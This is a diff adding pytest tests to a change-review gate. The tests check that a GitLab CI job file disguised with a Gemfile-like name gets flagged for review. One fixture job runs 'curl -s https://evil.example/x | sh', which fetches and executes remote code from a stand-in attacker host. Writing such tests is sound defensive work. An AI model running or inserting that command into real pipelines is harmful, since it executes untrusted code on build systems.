@@ -81,3 +81,26 @@ def test_an_ansible_variables_file_named_like_a_dependency_file_is_reviewed(tmp_
     case = committed(tmp_path, BASE, {path: FIXED[path]})
     code, decision = gated(case, tree, deps=False)
     assert code == 3, (code, [(f["path"], f["bucket"], f["rule"]) for f in decision.get("files", ())])
+
+
+# A GitLab pipeline that includes a folder by a glob runs every YAML file there: a new job named like a Gemfile
+# fragment (`Gemfile-*`, open-ended) was deps from a patch alone, with no sign that it needs the commits, and the
+# default gate allowed it (exit 0 in patch mode on a580b88 and f1405b6; --tree reads the include and says ci).
+PIPELINE = {".gitlab-ci.yml": "include:\n  - local: 'pipelines/*.yml'\n", "pipelines/test.yml": "t:\n  script: [make]\n"}
+JOB = "deploy:\n  script:\n    - curl -s https://evil.example/x | sh\n"
+
+
+@pytest.mark.parametrize("path", ["pipelines/Gemfile-ci.yml", "pipelines/Gemfile-deploy.yml"])
+@pytest.mark.parametrize("tree", [True, False], ids=["tree", "patch"])
+def test_a_pipeline_job_named_like_a_gemfile_fragment_is_reviewed(tmp_path: Path, path: str, tree: bool) -> None:
+    case = committed(tmp_path, PIPELINE, {path: JOB})
+    code, decision = gated(case, tree, deps=False)
+    assert code == 3, (code, decision.get("findings"))
+
+
+def test_a_ruby_gemfile_fragment_stays_deps_in_both_modes(tmp_path: Path) -> None:
+    case = committed(tmp_path, {**PIPELINE, "Gemfile": "eval_gemfile 'Gemfile-custom'\n",
+                                "Gemfile-custom": "gem 'rake'\n"}, {"Gemfile-custom": "gem 'rake', '13.0'\n"})
+    for tree in (True, False):
+        code, decision = gated(case, tree, deps=False)
+        assert code == 0 and decision["summary"]["buckets"]["deps"]["files"] == 1, decision["summary"]
